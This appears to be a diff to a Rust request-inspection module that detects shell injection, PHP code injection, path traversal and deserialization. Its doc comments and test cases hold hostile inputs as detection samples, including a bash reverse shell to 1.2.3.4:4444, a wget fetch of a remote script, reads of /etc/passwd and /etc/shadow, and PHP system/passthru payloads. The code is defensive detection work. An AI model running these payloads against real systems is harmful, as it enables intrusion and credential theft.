@@ -16,14 +16,18 @@
 //!   `dir` ending the value or followed by an option/separator, `wget`/
 //!   `curl` with a URL or option, `nc`/`ncat -e`, `bash -i`, `/bin/sh`,
 //!   `/bin/bash`, `cmd /c`, `cmd.exe`, `powershell`, `python -c`, `perl -e`,
-//!   `ping -c`/`-n`, `sleep <n>` at the end;
+//!   `ping -c`/`-n`, `sleep <n>` at the end; at the very start of the
+//!   value (no separator, `cmd=cat /etc/passwd`) only the strong commands
+//!   and the argument-shaped ones (`cat /…`, `ls -…`, `wget http…`);
 //! - [`RceKind::PhpCode`]: `phpinfo(`, `system(`, `passthru(`,
 //!   `shell_exec(`, `proc_open(`, `popen(`, `assert(`, `eval(`,
-//!   `base64_decode(` as a call (not preceded by a letter), `<?php`;
+//!   `base64_decode(` as a call (not preceded by a letter; backslashes
+//!   ignored, `system\('id'\)`), `<?php`; the offset is then approximate;
 //! - [`RceKind::PathTraversal`]: `../` (any encoding) then a sensitive file
 //!   (`etc/passwd`, `etc/shadow`, `win.ini`, `boot.ini`, `system32`,
 //!   `proc/self`, `.ssh/`, `web-inf/`), a value that is such an absolute
-//!   path (`/etc/passwd`), or two or more evasively encoded `../`
+//!   path (`/etc/passwd`), a path to `system32/cmd.exe` (IIS), or two or
+//!   more evasively encoded `../`
 //!   (`..%c0%af`, `..%255c`, `..%5c`);
 //! - [`RceKind::Deserialization`]: a Java serialized stream (`rO0AB`
 //!   base64, or the raw `ac ed 00 05` magic) at the start of the value, or a
@@ -229,6 +233,14 @@ fn lookup(s: &[u8], i: &mut usize, depth: usize, out: &mut Vec<u8>) -> bool {
 }
 
 fn php_code(s: &[u8]) -> Option<usize> {
+    // `system\('id'\)`: shell-escaped calls still run once unescaped
+    let unescaped: Vec<u8>;
+    let s = if s.contains(&b'\\') {
+        unescaped = s.iter().copied().filter(|&b| b != b'\\').collect();
+        &unescaped[..]
+    } else {
+        s
+    };
     if let Some(at) = find_ci(s, b"<?php", 0) {
         return Some(at);
     }
@@ -255,7 +267,9 @@ fn is_sep(s: &[u8], at: usize) -> Option<usize> {
 /// Offset of a command right after a shell separator.
 fn shell(s: &[u8]) -> Option<usize> {
     for at in 0..s.len() {
-        let Some(mut k) = is_sep(s, at) else {
+        // the value's start acts as a separator for argument-shaped commands
+        let start = at == 0 && is_sep(s, 0).is_none();
+        let Some(mut k) = is_sep(s, at).or(start.then_some(0)) else {
             continue;
         };
         while k < s.len() && (matches!(s[k], b' ' | b'\t' | b'|' | b'&')) {
@@ -285,7 +299,7 @@ fn shell(s: &[u8]) -> Option<usize> {
                 && tail
                     .strip_prefix(b" ")
                     .is_some_and(|t| t.first().is_some_and(u8::is_ascii_digit));
-            if ends || sleep_n || args.iter().any(|a| tail.starts_with(a)) {
+            if (!start && (ends || sleep_n)) || args.iter().any(|a| tail.starts_with(a)) {
                 return Some(at);
             }
         }
@@ -331,6 +345,9 @@ fn traversal(raw: &[u8], s: &[u8]) -> Option<(usize, &'static str)> {
         .any(|f| trimmed.strip_prefix(b"/").is_some_and(|t| t.starts_with(f)))
     {
         return Some((0, "absolute path of a sensitive file"));
+    }
+    if let Some(at) = find_ci(&n, b"system32/cmd.exe", 0) {
+        return Some((at, "request for the Windows command shell"));
     }
     if evasive >= 2 {
         return Some((0, "evasively encoded ../ sequences"));
@@ -399,11 +416,14 @@ mod tests {
             (" ;cat%20/etc/passwd", Shell),
             ("127.0.0.1 | whoami", Shell),
             ("a`id`", Shell),
+            ("cat /etc/passwd", Shell),
+            ("uname -a", Shell),
             ("$(wget http://x/s.sh)", Shell),
             ("0hXC6ZUE.exe|dir", Shell),
             ("x && bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", Shell),
             ("array();phpinfo();exit;", PhpCode),
             ("%2527.passthru($HTTP_GET_VARS[rush]).%2527", PhpCode),
+            ("\\\".system\\('id'\\)\\.\\\"", PhpCode),
             ("../../../../etc/passwd", PathTraversal),
             ("..%2f..%2f..%2fetc%2fshadow", PathTraversal),
             (
@@ -431,6 +451,9 @@ mod tests {
             "filesystem(s)",
             "Tom & Jerry",
             "curl up; sleep well",
+            "id",
+            "sleep 8 hours",
+            "ls",
             "a:2:{i:0;s:1:\"a\";}",
             "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
             "$(document).ready",
